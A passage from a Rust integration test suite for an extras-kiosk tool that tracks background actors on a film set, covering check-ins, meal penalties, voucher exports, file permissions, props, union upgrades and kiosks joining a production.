    ok(&db, &["--kiosk", "base-camp", "status"]);
    let other = kiosk(&db, &["--kiosk", "tent-2", "status"]);
    assert_eq!(other.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&other.stderr);
    assert!(
        stderr.contains("is kiosk 'base-camp', not 'tent-2'"),
        "{stderr}"
    );
    let bad = kiosk(&dir.path().join("new.db"), &["--kiosk", "tent 2", "status"]);
    assert!(String::from_utf8_lossy(&bad.stderr).contains("is not a kiosk id"));
    // Every event carries the kiosk's id.
    let conn = rusqlite::Connection::open(&db).unwrap();
    let labels: Vec<String> = conn
        .prepare("SELECT DISTINCT kiosk_id FROM events")
        .unwrap()
        .query_map([], |r| r.get(0))
        .unwrap()
        .collect::<Result<_, _>>()
        .unwrap();
    assert_eq!(labels, vec!["base-camp"]);

    // Made without an id: a short generated one.
    let db = dir.path().join("plain.db");
    assert!(!kiosk(&db, &["status"]).status.success(), "no day yet");
    let (id, name) = kiosk_row(&db);
    assert!(id.starts_with('k') && id.len() == 6, "{id}");
    assert_eq!(name, None);
}

/// `fixtures/legacy/kiosk-schema5.db` was recorded by the build before
/// kiosk ids (schema 5), its events labelled `front` and `side` the old way;
/// `vouchers-schema5.csv` is what that build exported from it
/// (`fixtures/legacy/make.sh` writes both).
#[test]
fn a_file_made_before_kiosk_ids_keeps_its_history_and_takes_its_latest_label() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("kiosk.db");
    std::fs::copy(fixture("legacy/kiosk-schema5.db"), &db).unwrap();
    let conn = rusqlite::Connection::open(&db).unwrap();
    let version: i64 = conn
        .query_row("PRAGMA user_version", [], |r| r.get(0))
        .unwrap();
    assert_eq!(version, 5, "a file as the earlier build left it");
    let count = |conn: &rusqlite::Connection| -> i64 {
        conn.query_row("SELECT COUNT(*) FROM events", [], |r| r.get(0))
            .unwrap()
    };
    let before = count(&conn);
    drop(conn);

    let verified = ok(&db, &["log", "--verify"]);
    assert!(verified.contains("The log is intact"), "{verified}");
    assert!(
        verified.contains(&format!("before kiosk chains: {before}")),
        "{verified}"
    );
    assert_eq!(kiosk_row(&db).0, "front", "the label of its latest event");
    let conn = rusqlite::Connection::open(&db).unwrap();
    assert_eq!(count(&conn), before, "no event lost");
    drop(conn);

    let out = dir.path().join("out");
    std::fs::create_dir(&out).unwrap();
    ok(
        &db,
        &[
            "export",
            "--out",
            out.to_str().unwrap(),
            "--format",
            "csv",
            "--allow-open",
        ],
    );
    // Every column that build wrote, unchanged; later builds add six at
    // the end (paperwork, upgraded, items_out; dispute, approved_by,
    // approved_at), with their defaults.
    let now = std::fs::read_to_string(out.join("vouchers-2026-11-28.csv")).unwrap();
    let mut first_28 = String::new();
    for line in now.split_terminator("\r\n") {
        let cells: Vec<&str> = line.rsplitn(7, ',').collect();
        assert!(
            cells[..6] == ["", "", "", "0", "", "unknown"]
                || cells[..6]
                    == [
                        "approved_at",
                        "approved_by",
                        "dispute",
                        "items_out",
                        "upgraded",
                        "paperwork"
                    ],
            "{line}"
        );
        first_28.push_str(cells[6]);
        first_28.push_str("\r\n");
    }
    assert_eq!(
        first_28,
        std::fs::read_to_string(fixture("legacy/vouchers-schema5.csv")).unwrap(),
        "no voucher changed"
    );
    // New events chain on from the legacy segment, as kiosk front's.
    ok(&db, &["checkin", "--badge", "B-0010", "--at", "07:00"]);
    let verified = ok(&db, &["log", "--verify"]);
    assert!(verified.contains("kiosk front: 2"), "{verified}");
    let refused = kiosk(&db, &["--kiosk", "side", "status"]);
    assert!(!refused.status.success(), "the file is kiosk front now");
}

#[cfg(unix)]
#[test]
fn the_database_its_journal_and_its_backups_are_private() {
    use std::os::unix::fs::PermissionsExt;
    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("new-folder").join("kiosk");
    let db = data.join("kiosk.db");
    demo_day(&db, true);
    assert_eq!(mode(&data), 0o700, "a data folder the kiosk makes");
    assert_eq!(mode(&db), 0o600);
    // While the kiosk has the database open, its -wal and -shm exist.
    let store = extras_kiosk::store::Store::open(&db).unwrap();
    for suffix in ["-wal", "-shm"] {
        let mut name = db.as_os_str().to_owned();
        name.push(suffix);
        let path = std::path::PathBuf::from(name);
        assert!(path.exists(), "{suffix} while open");
        assert_eq!(mode(&path), 0o600, "{suffix}");
    }
    drop(store);
    let backup = dir.path().join("backup.db");
    ok(&db, &["backup", backup.to_str().unwrap()]);
    assert_eq!(mode(&backup), 0o600, "a backup copy");

    // A database made 0644 by an earlier build is tightened when opened.
    std::fs::set_permissions(&db, std::fs::Permissions::from_mode(0o644)).unwrap();
    ok(&db, &["status"]);
    assert_eq!(mode(&db), 0o600);
}

#[test]
fn a_meal_forecast_says_what_lunch_at_a_time_costs_and_the_voucher_agrees() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("kiosk.db");
    let skin = dir.path().join("skin.csv");
    std::fs::write(
        &skin,
        "first_name,last_name,category,union,rate,call_time\n\
         Ana,Lopez,BG,SAG,,06:30\n\
         Ben,Ortiz,BG,SAG,,06:30\n\
         Cy,Ng,BG,non-union,200,06:30\n\
         Dee,Park,BG,SAG,,06:30\n",
    )
    .unwrap();
    let out = import_only(&db, &skin);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    ok(&db, &["areas", "add", "Tent", "--capacity", "10"]);
    for badge in ["B-0001", "B-0002", "B-0003", "B-0004"] {
        ok(&db, &["checkin", "--badge", badge, "--at", "06:30"]);
    }
    // Dee is at a meal now: not counted.
    ok(
        &db,
        &["meal", "start", "--badge", "B-0004", "--at", "11:00"],
    );
    let forecast = |at: &str| -> serde_json::Value {
        serde_json::from_str(&ok(
            &db,
            &["meal", "forecast", "--area", "Tent", "--at", at, "--json"],
        ))
        .unwrap()
    };
    // Union: due 12:30 (six hours after call), 12 minutes' grace; at 13:10
    // two late half hours, 7.50 + 10.00 each. Non-union: no grace, an
    // hour's pay (200 / 8 = 25.00). 17.50 + 17.50 + 25.00 = 60.00.
    let late = forecast("13:10");
    assert_eq!(
        late,
        serde_json::json!({
            "area": "Tent",
            "at": "13:10",
            "present": 3,
            "penalised": 3,
            "amount": "60.00",
            "latest_free": "12:30",
        })
    );
    let free = forecast("12:30");
    assert_eq!(free["penalised"], 0);
    assert_eq!(free["amount"], "0.00");
    let text = ok(
        &db,
        &["meal", "forecast", "--area", "tent", "--at", "13:10"],
    );
    assert!(
        text.contains(
            "a meal by 12:30 costs nothing; at 13:10, 3 of the 3 present are late: $60.00"
        ),
        "{text}"
    );
    assert!(
        !kiosk(
            &db,
            &["meal", "forecast", "--area", "Nowhere", "--at", "13:10"]
        )
        .status
        .success()
    );

    // Call lunch at 13:10 as forecast: the vouchers charge exactly that.
    ok(&db, &["meal", "end", "--badge", "B-0004", "--at", "11:30"]);
    ok(&db, &["meal", "start", "--area", "Tent", "--at", "13:10"]);
    ok(&db, &["meal", "end", "--area", "Tent", "--at", "13:45"]);
    ok(&db, &["release", "--area", "Tent", "--at", "16:00"]);
    let out_dir = dir.path().join("out");
    std::fs::create_dir(&out_dir).unwrap();
    ok(
        &db,
        &[
            "export",
            "--out",
            out_dir.to_str().unwrap(),
            "--format",
            "csv",
        ],
    );
    let mut reader = csv::Reader::from_path(out_dir.join("vouchers-2026-11-28.csv")).unwrap();
    let headers = reader.headers().unwrap().clone();
    let column = headers
        .iter()
        .position(|h| h == "meal_penalty_amount")
        .unwrap();
    let badge = headers.iter().position(|h| h == "badge").unwrap();
    let mut charged = 0.0;
    for record in reader.records() {
        let record = record.unwrap();
        if record[badge] != *"B-0004" {
            charged += record[column].parse::<f64>().unwrap();
        }
    }
    assert!((charged - 60.0).abs() < 0.001, "{charged}");
}

fn pdf_text(pdf: &Path) -> String {
    let out = Command::new("pdftotext")
        .args(["-layout"])
        .arg(pdf)
        .arg("-")
        .output()
        .expect("pdftotext runs (poppler-utils)");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).unwrap()
}

fn pdf_pages(pdf: &Path) -> (usize, String) {
    let info = Command::new("pdfinfo").arg(pdf).output().unwrap();
    let info = String::from_utf8_lossy(&info.stdout).to_string();
    let field = |name: &str| {
        info.lines()
            .find(|l| l.starts_with(name))
            .map(|l| l[name.len()..].trim().to_string())
            .unwrap_or_default()
    };
    (field("Pages:").parse().unwrap(), field("Page size:"))
}

/// The first 12 hex digits of the SHA-256 of `badge`'s row of the voucher
/// CSV, as written there (without the line's end), up to `corrections`.
fn row_hash(csv: &str, badge: &str) -> String {
    use sha2::{Digest, Sha256};
    let row = csv
        .split("\r\n")
        .find(|r| r.split(',').nth(1) == Some(badge))
        .unwrap_or_else(|| panic!("{badge} in {csv}"));
    // These test rows hold no quoted commas: the last six cells go.
    let pay: Vec<&str> = row.rsplitn(7, ',').collect();
    Sha256::digest(pay[6].as_bytes())
        .iter()
        .take(6)
        .map(|b| format!("{b:02x}"))
        .collect()
}

#[test]
fn a_voucher_lists_the_changes_to_the_day_and_carries_its_hash() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("kiosk.db");
    let skin = dir.path().join("skin.csv");
    std::fs::write(
        &skin,
        "first_name,last_name,category,union,rate,call_time\n\
         Ana,Lopez,BG,SAG,,06:30\n\
         Ben,Ortiz,BG,SAG,,06:30\n\
         Cy,Ng,BG,non-union,200,06:30\n",
    )
    .unwrap();
    assert!(import_only(&db, &skin).status.success());
    ok(&db, &["areas", "add", "Tent", "--capacity", "10"]);
    ok(&db, &["areas", "add", "Stage 5", "--capacity", "10"]);
    for badge in ["B-0001", "B-0002", "B-0003"] {
        ok(&db, &["checkin", "--badge", badge, "--at", "06:35"]);
    }
    // Ana: her in time corrected, moved, a bump added and one taken back.
    ok(
        &db,
        &[
            "correct",
            "--badge",
            "B-0001",
            "--field",
            "in",
            "--to",
            "06:28",
            "--reason",
            "was at wardrobe first",
            "--at",
            "09:00",
        ],
    );
    ok(
        &db,
        &[
            "move", "--badge", "B-0001", "--area", "Stage 5", "--at", "10:00",
        ],
    );
    ok(
        &db,
        &[
            "bump", "add", "--badge", "B-0001", "--kind", "smoke", "--by", "Sam AD", "--at",
            "11:00",
        ],
    );
    ok(
        &db,
        &[
            "bump", "add", "--badge", "B-0001", "--kind", "wet", "--amount", "12.50", "--at",
            "11:05",
        ],
    );
    ok(
        &db,
        &[
            "bump", "remove", "--badge", "B-0001", "--kind", "wet", "--at", "11:10",
        ],
    );
    // Ben: released too early, the release taken back, then corrected
    // fourteen times: more than one page holds.
    ok(&db, &["release", "--badge", "B-0002", "--at", "12:00"]);
    ok(
        &db,
        &[
            "undo",
            "--release",
            "--badge",
            "B-0002",
            "--reason",
            "scanned by mistake",
            "--at",
            "12:01",
        ],
    );
    for i in 0..14 {
        let to = format!("06:{:02}", 31 + i);
        let at = format!("13:{:02}", 10 + i);
        let reason = format!("fix number {}", i + 1);
        ok(
            &db,
            &[
                "correct", "--badge", "B-0002", "--field", "in", "--to", &to, "--reason", &reason,
                "--at", &at,
            ],
        );
    }
    ok(&db, &["release", "--all", "--at", "16:00"]);
    let out = dir.path().join("out");
    std::fs::create_dir(&out).unwrap();
    ok(&db, &["export", "--out", out.to_str().unwrap()]);
    assert!(
        !out.join("paper-vouchers-2026-11-28.pdf").exists(),
        "no one asked for paper: no paper vouchers"
    );

    let csv = std::fs::read_to_string(out.join("vouchers-2026-11-28.csv")).unwrap();
    let pdf = out.join("vouchers-2026-11-28.pdf");
    let text = pdf_text(&pdf);
    let pages: Vec<&str> = text.split('\u{c}').collect();
    let page_of = |badge: &str| -> Vec<&str> {
        pages
            .iter()
            .copied()
            .filter(|p| p.contains("BACKGROUND VOUCHER") && p.contains(badge))
            .collect()
    };
    let ana = page_of("B-0001");
    assert_eq!(ana.len(), 1, "Ana's changes fit on her page");
    let ana = ana[0];
    let flat = |p: &str| p.split_whitespace().collect::<Vec<_>>().join(" ");
    let ana_flat = flat(ana);
    for wanted in [
        "Changes after the fact",
        "In time 06:35 06:28",
        "was at wardrobe first",
        "Holding area Tent Stage 5",
        "Bump added — smoke Sam AD",
        "Bump removed wet",
    ] {
        assert!(ana_flat.contains(wanted), "{wanted:?} in {ana_flat}");
    }
    assert!(
        ana_flat.contains(&format!("Voucher {} · 5 changes", row_hash(&csv, "B-0001"))),
        "the hash of Ana's CSV row, and her count of changes: {ana_flat}"
    );
    let ben = page_of("B-0002");
    assert_eq!(ben.len(), 2, "Ben's 15 changes take a second page");
    let ben_all = flat(&ben.join(" "));
    assert!(ben_all.contains("changes, continued"), "{ben_all}");
    assert!(ben_all.contains("Release undone 12:00"), "{ben_all}");
    assert!(ben_all.contains("scanned by mistake"), "{ben_all}");
    assert_eq!(
        ben_all.matches("fix number").count(),
        14,
        "every correction, on one page or the next: {ben_all}"
    );
    assert!(
        ben_all.contains("In time 06:43 06:44 PA at kiosk"),
        "{ben_all}"
    );
    let cy = flat(page_of("B-0003")[0]);
    assert!(cy.contains("Changes: none after the fact."), "{cy}");
    assert!(
        cy.contains(&format!(
            "Voucher {} · no changes",
            row_hash(&csv, "B-0003")
        )),
        "{cy}"
    );
}

#[test]
fn paper_vouchers_are_written_for_those_who_ask_on_the_paper_asked_for() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("kiosk.db");
    let skin = dir.path().join("skin.csv");
    // A value that is not a voucher kind is refused, naming its line.
    std::fs::write(
        &skin,
        "first_name,last_name,category,union,rate,call_time,voucher\n\
         Ana,Lopez,BG,SAG,,06:30,paper\n\
         Ben,Ortiz,BG,SAG,,06:30,carbon\n",
    )
    .unwrap();
    let refused = import_only(&db, &skin);
    assert!(!refused.status.success());
    let err = String::from_utf8_lossy(&refused.stderr);
    assert!(
        err.contains(":3") && err.contains("voucher") && err.contains("carbon"),
        "{err}"
    );

    std::fs::write(
        &skin,
        "first_name,last_name,category,union,rate,call_time,Voucher Type\n\
         Ana,Lopez,BG,SAG,,06:30,Paper\n\
         Ben,Ortiz,BG,SAG,,06:30,\n\
         Cy,Ng,BG,non-union,200,06:30,electronic\n\
         Dee,Park,BG,SAG,,06:30,paper\n",
    )
    .unwrap();
    let imported = kiosk(&db, &["import", skin.to_str().unwrap()]);
    assert!(
        imported.status.success(),
        "{}",
        String::from_utf8_lossy(&imported.stderr)
    );
    ok(&db, &["areas", "add", "Tent", "--capacity", "10"]);
    // Ben asks at the kiosk; Dee is a no-show (nothing to check).
    let said = ok(&db, &["voucher", "paper", "--badge", "B-0002"]);
    assert!(said.contains("a paper voucher"), "{said}");
    for badge in ["B-0001", "B-0002", "B-0003"] {
        ok(&db, &["checkin", "--badge", badge, "--at", "06:35"]);
    }
    ok(
        &db,
        &["meal", "start", "--badge", "B-0001", "--at", "12:00"],
    );
    ok(&db, &["meal", "end", "--badge", "B-0001", "--at", "12:30"]);
    ok(
        &db,
        &[
            "bump", "add", "--badge", "B-0001", "--kind", "smoke", "--at", "13:00",
        ],
    );
    ok(&db, &["release", "--all", "--at", "16:00"]);
    // A re-import without the column does not take Ana's paper back.
    std::fs::write(
        &skin,
        "first_name,last_name,category,union,rate,call_time\n\
         Ana,Lopez,BG,SAG,,06:30\n\
         Ben,Ortiz,BG,SAG,,06:30\n\
         Cy,Ng,BG,non-union,200,06:30\n\
         Dee,Park,BG,SAG,,06:30\n",
    )
    .unwrap();
    ok(&db, &["import", skin.to_str().unwrap()]);

    let out = dir.path().join("out");
    std::fs::create_dir(&out).unwrap();
    let wrote = ok(
        &db,
        &[
            "export",
            "--out",
            out.to_str().unwrap(),
            "--format",
            "csv",
            "--paper",
            "a4",
        ],
    );
    let paper = out.join("paper-vouchers-2026-11-28.pdf");
    assert!(wrote.contains("paper-vouchers-2026-11-28.pdf"), "{wrote}");
    let (pages, size) = pdf_pages(&paper);
    assert_eq!(pages, 2, "Ana and Ben; Dee did not come");
    assert!(size.starts_with("595.276 x 841.89"), "A4: {size}");
    let text = pdf_text(&paper);
    let ana: String = text
        .split('\u{c}')
        .find(|p| p.contains("Lopez"))
        .unwrap()
        .split_whitespace()
        .collect::<Vec<_>>()
        .join(" ");
    for wanted in [
        "PAPER VOUCHER",
        "Name Lopez, Ana",
        "Badge B-0001",
        "Category General background · union",
        "Call 06:30",
        "In 06:35",
        "1st meal 12:00 – 12:30",
        "Out 16:00",
        "Bumps smoke",
        "Hours worked 9.0",
        "Background actor's signature",
        "AD's signature",
        "Date",
    ] {
        assert!(ana.contains(wanted), "{wanted:?} in {ana}");
    }
    assert!(ana.contains("Rate $"), "{ana}");

    // Ben takes the electronic voucher after all: only Ana's is left.
    ok(&db, &["voucher", "paper", "--badge", "B-0002", "--off"]);
    let out2 = dir.path().join("out2");
    std::fs::create_dir(&out2).unwrap();
    ok(
        &db,
        &["export", "--out", out2.to_str().unwrap(), "--format", "csv"],
    );
    let (pages, size) = pdf_pages(&out2.join("paper-vouchers-2026-11-28.pdf"));
    assert_eq!(pages, 1);
    assert!(size.starts_with("612 x 792"), "letter by default: {size}");
}

/// The payload of `badge`'s QR code, read from its PNG by zbarimg.
pub(super) fn payload_of(db: &Path, dir: &Path, badge: &str) -> String {
    let png_dir = dir.join(format!("png-{badge}"));
    ok(
        db,
        &[
            "badges",
            "--png-dir",
            png_dir.to_str().unwrap(),
            "--badge",
            badge,
        ],
    );
    let scanned = Command::new("zbarimg")
        .args(["--quiet", "--raw"])
        .arg(png_dir.join(format!("{badge}.png")))
        .output()
        .unwrap();
    String::from_utf8(scanned.stdout)
        .unwrap()
        .trim()
        .to_string()
}

#[test]
fn paperwork_items_and_an_upgrade_from_the_command_line() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("kiosk.db");
    let skin = dir.path().join("skin.csv");
    std::fs::write(
        &skin,
        "first_name,last_name,category,union,rate,call_time,Start Paperwork\n\
         Ana,Lopez,BG,non-union,180,06:00,maybe\n",
    )
    .unwrap();
    let refused = import_only(&db, &skin);
    let err = String::from_utf8_lossy(&refused.stderr);
    assert!(
        !refused.status.success() && err.contains(":2") && err.contains("paperwork"),
        "{err}"
    );
    // Ana's golden day (fixtures/vouchers/22-upgraded-to-union.toml).
    std::fs::write(
        &skin,
        "first_name,last_name,category,union,rate,call_time,Start Paperwork\n\
         Ana,Lopez,BG,non-union,180,06:00,pending\n\
         Ben,Ortiz,BG,SAG,,06:00,complete\n\
         Cy,Ng,BG,SAG,,06:00,\n",
    )
    .unwrap();
    ok(&db, &["import", skin.to_str().unwrap()]);
    ok(&db, &["areas", "add", "Tent", "--capacity", "10"]);

    // 1. Pending paperwork: still checked in, with a notice for the PA.
    let ana = payload_of(&db, dir.path(), "B-0001");
    let scanned: serde_json::Value =
        serde_json::from_str(&ok(&db, &["scan", &ana, "--at", "06:00", "--json"])).unwrap();
    assert_eq!(scanned["outcome"], "checked_in");
    assert_eq!(scanned["area"], "Tent");
    assert_eq!(scanned["notices"], serde_json::json!(["paperwork_pending"]));
    let status: serde_json::Value =
        serde_json::from_str(&ok(&db, &["status", "--json", "--at", "06:05"])).unwrap();
    assert_eq!(status["paperwork_pending"], 1);
    let rejected = kiosk(&db, &["paperwork", "reject", "--badge", "B-0001"]);
    assert!(!rejected.status.success(), "a rejection needs a note");
    ok(
        &db,
        &[
            "paperwork",
            "verify",
            "--badge",
            "B-0001",
            "--note",
            "passport seen",
            "--at",
            "06:10",
        ],
    );
    let status: serde_json::Value =
        serde_json::from_str(&ok(&db, &["status", "--json", "--at", "06:15"])).unwrap();
    assert_eq!(status["paperwork_pending"], 0);
    // A re-import does not undo the PA's decision.
    ok(&db, &["import", skin.to_str().unwrap()]);

    // 2. Items out and back; a tag is unique among items out.
    ok(&db, &["checkin", "--badge", "B-0002", "--at", "06:00"]);
    ok(&db, &["checkin", "--badge", "B-0003", "--at", "06:00"]);
    let issued = ok(
        &db,
        &[
            "items",
            "issue",
            "--badge",
            "B-0002",
            "--kind",
            "prop",
            "--what",
            "Rifle (rubber)",
            "--tag",
            "P-017",
            "--by",
            "Props (Jo)",
            "--at",
            "07:00",
        ],
    );
    assert!(issued.contains("Rifle (rubber) P-017 to props"), "{issued}");
    let twice = kiosk(
        &db,
        &[
            "items",
            "issue",
            "--badge",
            "B-0003",
            "--kind",
            "prop",
            "--what",
            "Rifle (rubber)",
            "--tag",
            " p-017",
        ],
    );
    let err = String::from_utf8_lossy(&twice.stderr);
    assert!(
        !twice.status.success() && err.contains("P-017") && err.contains("B-0002 Ben Ortiz"),
        "the holder is named: {err}"
    );
    ok(
        &db,
        &[
            "items",
            "issue",
            "--badge",
            "B-0003",
            "--kind",
            "wardrobe",
            "--what",
            "Police jacket",
            "--at",
            "07:05",
        ],
    );
    ok(
        &db,
        &[
            "items",
            "return",
            "--badge",
            "B-0003",
            "--what",
            "police  JACKET",
            "--at",
            "12:00",
        ],
    );
    let items: serde_json::Value =
        serde_json::from_str(&ok(&db, &["items", "list", "--json"])).unwrap();
    assert_eq!(items.as_array().unwrap().len(), 2);
    let rifle = &items[0];
    for (key, want) in [
        ("badge", "B-0002"),
        ("name", "Ben Ortiz"),
        ("kind", "prop"),
        ("what", "Rifle (rubber)"),
        ("tag", "P-017"),
        ("issued_by", "Props (Jo)"),
    ] {
        assert_eq!(rifle[key], want, "{key}: {rifle}");
    }
    assert!(
        rifle["issued_at"]
            .as_str()
            .unwrap()
            .starts_with("2026-11-28T07:00"),
        "{rifle}"
    );
    assert!(rifle["returned_at"].is_null());
    assert!(!items[1]["returned_at"].is_null(), "the jacket came back");
    let out: serde_json::Value =
        serde_json::from_str(&ok(&db, &["items", "list", "--outstanding", "--json"])).unwrap();
    assert_eq!(out.as_array().unwrap().len(), 1);

    // 3. Ana upgraded to union on the day.
    ok(&db, &["meal", "start", "--all", "--at", "12:00"]);
    ok(&db, &["meal", "end", "--all", "--at", "12:30"]);
    ok(
        &db,
        &[
            "upgrade",
            "--badge",
            "B-0001",
            "--to",
            "union",
            "--reason",
            "given a line",
            "--at",
            "14:00",
        ],
    );
    let again = kiosk(
        &db,
        &[
            "upgrade", "--badge", "B-0001", "--to", "union", "--reason", "twice",
        ],
    );
    assert!(!again.status.success(), "already union");
    // A re-import (the skin still says non-union, 180) does not undo it.
    ok(&db, &["import", skin.to_str().unwrap()]);

    // At release, Ben is told what to bring back; the release stands.
    let ben = payload_of(&db, dir.path(), "B-0002");
    let released = ok(&db, &["scan", &ben, "--mode", "checkout", "--at", "17:00"]);
    assert!(released.starts_with("released B-0002"), "{released}");
    assert!(
        released.contains("Please return: Rifle (rubber) P-017 to props."),
        "{released}"
    );
    let again: serde_json::Value = serde_json::from_str(&ok(
        &db,
        &[
            "scan", &ben, "--mode", "checkout", "--at", "17:01", "--json",
        ],
    ))
    .unwrap();
    assert_eq!(again["notices"], serde_json::json!(["items_out"]));
    ok(&db, &["release", "--all", "--at", "17:00"]);

    let out_dir = dir.path().join("out");
    std::fs::create_dir(&out_dir).unwrap();
    ok(
        &db,
        &[
            "export",
            "--out",
            out_dir.to_str().unwrap(),
            "--format",
            "csv,pdf",
        ],
    );
    let items_csv = std::fs::read_to_string(out_dir.join("items-out-2026-11-28.csv")).unwrap();
    assert_eq!(
        items_csv,
        "badge,last_name,first_name,kind,what,tag,issued_at,issued_by\r\n\
         B-0002,Ortiz,Ben,prop,Rifle (rubber),P-017,2026-11-28T07:00,Props (Jo)\r\n"
    );
    let csv_text = std::fs::read_to_string(out_dir.join("vouchers-2026-11-28.csv")).unwrap();
    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    assert_eq!(
        &header[header.len() - 6..],
        [
            "paperwork",
            "upgraded",
            "items_out",
            "dispute",
            "approved_by",
            "approved_at"
        ]
    );
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    let row = |badge: &str| rows.iter().find(|r| &r[1] == badge).unwrap().clone();
    let (ana, ben, cy) = (row("B-0001"), row("B-0002"), row("B-0003"));
    assert_eq!(
        (
            &ana[col("paperwork")],
            &ben[col("paperwork")],
            &cy[col("paperwork")]
        ),
        ("verified", "complete", "unknown")
    );
    assert_eq!((&ana[col("upgraded")], &ben[col("upgraded")]), ("yes", ""));
    assert_eq!((&ben[col("items_out")], &cy[col("items_out")]), ("1", "0"));
    // Ana's voucher is the golden one, computed under the union rules.
    let golden: toml::Value = toml::from_str(
        &std::fs::read_to_string(fixture("vouchers/22-upgraded-to-union.toml")).unwrap(),
    )
    .unwrap();
    let expected = &golden["expected"];
    assert_eq!(&ana[col("union")], "union");
    for key in [
        "rate",
        "hours_worked",
        "hours_straight",
        "hours_ot_1_5x",
        "hours_ot_2x",
        "gross",
    ] {
        assert_eq!(&ana[col(key)], expected[key].as_str().unwrap(), "{key}");
    }
    assert_eq!(&ana[col("meal_penalty_amount")], "0.00");
    let count = std::fs::read_to_string(out_dir.join("background-count-2026-11-28.csv")).unwrap();
    assert!(
        count.contains("general,union,3,3,"),
        "Ana counts as union: {count}"
    );
    let pdf = pdf_text(&out_dir.join("vouchers-2026-11-28.pdf"));
    let flat: String = pdf.split_whitespace().collect::<Vec<_>>().join(" ");
    assert!(flat.contains("Upgraded to union: given a line"), "{flat}");
    assert!(
        flat.contains("Upgraded non-union union"),
        "in the change log: {flat}"
    );
    assert!(flat.contains("Paperwork: verified"), "{flat}");
    assert!(flat.contains("Items out: 1"), "{flat}");
}

/// `pin set` with the PIN typed on standard input.
fn set_pin(db: &Path, pin: &str) {
    use std::io::Write;
    let mut child = Command::new(env!("CARGO_BIN_EXE_extras-kiosk"))
        .args(["pin", "set"])
        .env("EXTRAS_KIOSK_DB", db)
        .env_remove("EXTRAS_KIOSK_ID")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::null())
        .spawn()
        .unwrap();
    writeln!(child.stdin.take().unwrap(), "{pin}").unwrap();
    assert!(child.wait().unwrap().success());
}

fn setting(db: &Path, key: &str) -> Option<String> {
    use rusqlite::OptionalExtension;
    rusqlite::Connection::open(db)
        .unwrap()
        .query_row("SELECT value FROM settings WHERE key = ?1", [key], |r| {
            r.get(0)
        })
        .optional()
        .unwrap()
}

#[test]
fn a_kiosk_joins_the_production_with_its_own_id_and_walk_in_range() {
    let dir = tempfile::tempdir().unwrap();
    let lead = dir.path().join("base.db");
    base_camp(&lead);
    set_pin(&lead, "2468");
    // A device setting of the lead's own machine.
    rusqlite::Connection::open(&lead)
        .unwrap()
        .execute(
            "INSERT OR REPLACE INTO settings (key, value) VALUES ('volume', '3')",
            [],
        )
        .unwrap();
    let joined_at = |db: &Path, args: &[&str]| {
        let mut all = vec!["--db", db.to_str().unwrap()];
        all.extend_from_slice(args);
        kiosk(&lead, &all)
    };

    // Tent 1 joins from the lead's file.
    let tent = dir.path().join("sticks").join("tent1.db");
    let out = joined_at(
        &tent,
        &[
            "join",
            lead.to_str().unwrap(),
            "--kiosk",
            "tent1",
            "--name",
            "Tent 1",
        ],
    );
    let said = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{said}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        said.contains("kiosk tent1 (Tent 1)") && said.contains("170 booking(s)"),
        "{said}"
    );
    assert!(said.contains("walk-ins B-10001 to B-19999"), "{said}");
    assert_eq!(kiosk_row(&tent), ("tent1".into(), Some("Tent 1".into())));
    // The production, its bookings with contacts, areas, the PIN hash and
    // the badge secret came along; the device's own settings did not.
    assert_eq!(booked_names(&tent), booked_names(&lead));
    assert_eq!(
        setting(&tent, "supervisor_pin"),
        setting(&lead, "supervisor_pin")
    );
    assert_eq!(setting(&tent, "volume"), None);
    let areas = ok(&tent, &["areas", "list"]);
    assert!(areas.contains("Holding A"), "{areas}");
    let png = payload_of(&lead, dir.path(), "B-0001");
    let verified = ok(&tent, &["token", "verify", &png]);
    assert!(
        verified.contains("B-0001"),
        "a lead's badge reads here: {verified}"
    );
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(&tent).unwrap().permissions().mode();
        assert_eq!(mode & 0o777, 0o600, "private like every kiosk database");
    }

    // Its id is taken now, in the lead's file: a second kiosk cannot have it.
    let again = joined_at(
        &dir.path().join("other.db"),
        &["join", lead.to_str().unwrap(), "--kiosk", "tent1"],
    );
    assert!(!again.status.success());
    assert!(
        String::from_utf8_lossy(&again.stderr).contains("a kiosk 'tent1' is already known"),
        "{}",
        String::from_utf8_lossy(&again.stderr)
    );
    assert!(!dir.path().join("other.db").exists(), "nothing made");
    // Nor can the lead's own id be taken.
    let lead_id = joined_at(
        &dir.path().join("other.db"),
        &["join", lead.to_str().unwrap(), "--kiosk", "base"],
    );
    assert!(!lead_id.status.success());
    // The next kiosk gets the next range.
    let tent2 = dir.path().join("tent2.db");
    let said = String::from_utf8_lossy(
        &joined_at(
            &tent2,
            &["join", lead.to_str().unwrap(), "--kiosk", "tent2"],
        )
        .stdout,
    )
    .to_string();
    assert!(said.contains("walk-ins B-20001 to B-29999"), "{said}");
    // A joined kiosk hands out no ranges: join from the lead.
    let from_member = joined_at(
        &dir.path().join("other.db"),
        &["join", tent.to_str().unwrap(), "--kiosk", "tent3"],
    );
    let err = String::from_utf8_lossy(&from_member.stderr);
    assert!(
        !from_member.status.success() && err.contains("join from the lead's own file"),
        "{err}"
    );

    // Walk-ins take numbers from each kiosk's own range: no collision.
    let walk_in = |db: &Path| {
        ok(
            db,
            &[
                "walkin",
                "--first",
                "Wal",
                "--last",
                "Kin",
                "--category",
                "general",
                "--non-union",
            ],
        )
    };
    assert!(walk_in(&tent).contains("B-10001"));
    assert!(walk_in(&tent).contains("B-10002"));
